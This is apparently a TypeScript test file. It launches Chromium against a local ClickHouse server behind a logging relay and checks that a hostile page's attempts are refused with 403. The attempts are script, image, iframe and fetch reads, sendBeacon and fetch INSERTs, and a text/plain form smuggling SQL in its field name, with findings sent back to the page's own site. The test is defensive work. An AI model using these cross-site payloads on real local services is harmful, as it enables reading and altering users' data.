// An evil page in a real browser on the machine of the embedded ClickHouse: it may send requests to loopback, as every
// page may, and tries all that a page has. It reads nothing and changes nothing.

import { createServer, type IncomingMessage, request } from 'node:http';
import type { AddressInfo } from 'node:net';
import t from 'tap';
import { findChromium, launchChromium } from '../harness/chromium.js';
import { openWorld } from './world.js';

const chromium = findChromium();
if ('missing' in chromium) {
  t.test('an evil page', { skip: chromium.missing }, () => {});
} else {
  const {
    origin: clickhouse,
    client,
    one,
    post,
  } = await openWorld(t, {
    readable: { database: 'default', tables: ['visitors'] },
  });
  await client.command({
    query: 'CREATE TABLE visitors (session_id String) ENGINE = MergeTree ORDER BY session_id',
  });
  // What a TSVRaw answer would be as a script, if a browser took it for one.
  const stolen = "window.stolen='session-4711'";
  await client.insert({ table: 'visitors', values: [{ session_id: stolen }], format: 'JSONEachRow' });
  // Everything goes through a relay that notes what arrived and how it was answered: a page is not told.
  const answers: { readonly what: string; readonly status: number | undefined }[] = [];
  const relay = createServer((req, res) => {
    const { method, url = '/', headers } = req;
    const onward = request(new URL(url, clickhouse), { method, headers }, (answer) => {
      answers.push({ what: `${method} ${headers['sec-fetch-dest']} ${url}`, status: answer.statusCode });
      res.writeHead(answer.statusCode ?? 0, answer.headers);
      answer.pipe(res);
    });
    req.pipe(onward);
  });
  await new Promise<void>((up) => relay.listen(0, '127.0.0.1', up));
  t.teardown(() => {
    relay.closeAllConnections();
    relay.close();
  });
  const origin = `http://127.0.0.1:${(relay.address() as AddressInfo).port}`;
  const to = (query: string) => `${origin}/?query=${encodeURIComponent(query)}`;
  const read = to('SELECT session_id FROM visitors FORMAT TSVRaw');
  const write = to("INSERT INTO visitors VALUES ('written')");

  /** Pages of another site; what they have found out they send back to it. */
  const open = async (page: string) => {
    const told: string[] = [];
    const site = createServer((req: IncomingMessage, res) => {
      if (req.url?.startsWith('/told')) told.push(decodeURIComponent(req.url));
      res.writeHead(200, { 'Content-Type': 'text/html' }).end(req.url === '/' ? page : '');
    });
    await new Promise<void>((up) => site.listen(0, '127.0.0.1', up));
    t.teardown(() => {
      site.closeAllConnections();
      site.close();
    });
    return { url: `http://localhost:${(site.address() as AddressInfo).port}/`, told };
  };

  t.test('what it tries is what would work from the machine itself', async (t) => {
    const answer = await fetch(read);
    t.equal((await answer.text()).trim(), stolen, 'the analyst needs no password');
    answers.length = 0;
  });

  t.test(
    'script, image, style, frame, fetch and beacon of another site: nothing read, nothing written',
    async (t) => {
      const { url, told } = await open(`<!doctype html>
      <script src="${read}"></script>
      <img src="${write}"><img src="${read}">
      <link rel="stylesheet" href="${read}">
      <iframe src="${read}"></iframe><iframe src="${write}"></iframe>
      <script>
        const outcome = async (send) => {
          try { const answer = await send(); return answer.type + ' ' + (await answer.text()); }
          catch (error) { return 'failed'; }
        };
        (async () => {
          const seen = [String(window.stolen)];
          for (const mode of ['no-cors', 'cors'])
            for (const init of [{}, { method: 'POST', body: '' }, { method: 'POST', body: "INSERT INTO visitors VALUES ('written')" }])
              for (const at of [${JSON.stringify(read)}, ${JSON.stringify(write)}, ${JSON.stringify(`${origin}/`)}])
                seen.push(await outcome(() => fetch(at, { mode, ...init })));
          navigator.sendBeacon(${JSON.stringify(write)});
          navigator.sendBeacon(${JSON.stringify(`${origin}/`)}, "INSERT INTO visitors VALUES ('written')");
          await fetch('/told?' + encodeURIComponent(JSON.stringify(seen)));
        })();
      </script>`);
      const browser = await launchChromium(t, chromium.file);
      const page = await browser.newPage();
      const reported = page.waitForRequest((request) => request.url().includes('/told'), { timeout: 90_000 });
      await page.goto(url);
      await reported;
      t.equal(await page.evaluate('String(window.stolen)'), 'undefined');
      for (const frame of page.frames().slice(1))
        t.notMatch(await frame.content().catch(() => ''), 'session-4711');
      t.notMatch(told.join(), 'session-4711');
      const arrived = answers.splice(0);
      for (const what of [
        /^GET script/,
        /^GET image .*INSERT/,
        /^GET style/,
        /^GET iframe/,
        /^GET empty/,
        /^POST empty/,
      ])
        t.ok(
          arrived.some((one) => what.test(one.what)),
          `${what} did arrive`,
        );
      t.same(
        arrived.filter(({ status }) => status !== 403),
        [],
        'and were refused',
      );
      t.equal(await one('SELECT count() FROM visitors'), '1');
    },
  );

  t.test('a form of another site', async (t) => {
    const { url } = await open(`<!doctype html>
      <form method="post" enctype="text/plain" action="${origin}/">
        <input name="INSERT INTO visitors VALUES ('written') --" value="x">
      </form><script>document.forms[0].submit()</script>`);
    const browser = await launchChromium(t, chromium.file);
    const page = await browser.newPage();
    const answered = page.waitForResponse((answer) => answer.url().startsWith(origin), { timeout: 90_000 });
    await page.goto(url).catch(() => {}); // its own navigation may go before
    t.equal((await answered).status(), 403);
    t.match(answers.splice(0), [{ what: /^POST document/, status: 403 }]);
    t.equal(await one('SELECT count() FROM visitors'), '1');
  });

  t.test('the address bar of the machine’s own browser goes on working', async (t) => {
    const browser = await launchChromium(t, chromium.file);
    const page = await browser.newPage();
    t.match(
      await (await page.goto(to('SELECT session_id FROM visitors FORMAT JSON')))?.text(),
      'session-4711',
    );
    t.equal((await page.goto(write))?.status(), 403);
    t.equal((await post({}, 'SELECT count() FROM visitors')).text, '1\n');
  });
}
